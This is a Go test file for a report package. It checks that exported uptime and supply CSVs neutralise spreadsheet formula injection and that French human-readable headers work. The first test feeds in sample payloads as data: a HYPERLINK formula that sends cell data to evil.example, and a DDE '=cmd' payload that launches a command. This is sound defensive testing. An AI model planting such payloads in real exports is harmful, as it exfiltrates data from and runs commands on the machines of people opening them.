package report

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVNeutralisesFormulas (issue 13 finding 10): a text cell that a
// spreadsheet would read as a formula (it starts with = + - @, a tab or a
// carriage return) is written with a leading ', so opening the export runs
// nothing; numbers, negative ones included, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"details")`
	neg := -1.5
	up := &UptimeReport{Group: GroupFacility, Items: []UptimeRow{{
		Key: "+f-1", Name: hyperlink, Facility: "@SUM(A1:A9)", Region: "-north", Country: "\tUG",
		OutageH: -2, UptimePct: &neg, TopCauses: []CauseHours{{Cause: "=cmd|' /C calc'!A0", Hours: 3}},
	}}}
	var b bytes.Buffer
	if err := WriteUptimeCSV(&b, up); err != nil {
		t.Fatal(err)
	}
	row := csvRow(t, b.Bytes(), UptimeColumns)
	for col, want := range map[string]string{
		"key": "'+f-1", "name": "'" + hyperlink, "facility": "'@SUM(A1:A9)", "region": "'-north", "country": "'\tUG",
		"top_causes": "'=cmd|' /C calc'!A0=3", "outage_h": "-2", "uptime_pct": "-1.5", "devices": "0",
	} {
		if row[col] != want {
			t.Errorf("uptime %s: got %q, want %q", col, row[col], want)
		}
	}

	sup := &SupplyReport{Group: GroupRegion, Items: []SupplyRow{{Key: "\rnorth", Name: "=1+1", Region: "north", RatedLPM: -3, DemandLPM: &neg}}}
	b.Reset()
	if err := WriteSupplyCSV(&b, sup); err != nil {
		t.Fatal(err)
	}
	row = csvRow(t, b.Bytes(), SupplyColumns)
	for col, want := range map[string]string{"key": "'\rnorth", "name": "'=1+1", "region": "north", "rated_lpm": "-3", "demand_lpm": "-1.5"} {
		if row[col] != want {
			t.Errorf("supply %s: got %q, want %q", col, row[col], want)
		}
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "north": "north", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"a=b": "a=b", "'=1": "'=1", "Côte d'Ivoire": "Côte d'Ivoire",
	} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q): got %q, want %q", in, got, want)
		}
	}
}

// csvRow reads a header and one row, by column name.
func csvRow(t *testing.T, b []byte, header []string) map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) != 2 || len(recs[1]) != len(header) {
		t.Fatalf("got %q (%v), want a header and one row", b, err)
	}
	row := map[string]string{}
	for i, h := range header {
		row[h] = recs[1][i]
	}
	return row
}

// With human headers the supply CSV names its new columns and the demand
// and autonomy bases in the reader's language; machine headers keep codes.
func TestSupplyCSVBasesInWords(t *testing.T) {
	days := 2.5
	sup := &SupplyReport{Group: GroupFacility, Items: []SupplyRow{{Key: "hoima", DemandBasis: DemandFromCategories,
		Storage: Storage{AutonomyDays: &days, AutonomyBasis: AutonomyFromOutflow}}}}
	var b bytes.Buffer
	if err := WriteSupplyCSV(&b, sup); err != nil {
		t.Fatal(err)
	}
	row := csvRow(t, b.Bytes(), SupplyColumns)
	if row["demand_basis"] != "bed_categories" || row["autonomy_basis"] != "storage_outflow" || row["autonomy_days"] != "2.5" || row["stock_l"] != "" {
		t.Errorf("machine: %v", row)
	}
	b.Reset()
	if err := WriteSupplyCSVWith(&b, sup, CSVHeaders{Human: true, Lang: "fr"}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&b)
	r.Comma = ';' // a French reader's spreadsheet splits on ';' (93,4 has a comma)
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	fr := map[string]string{}
	for i, h := range recs[0] {
		fr[h] = recs[1][i]
	}
	if fr["base de la demande"] != "lits par catégorie" || fr["base de l’autonomie"] != "débit sortant mesuré" || fr["autonomie (jours)"] != "2,5" {
		t.Errorf("French: %v", fr)
	}
}
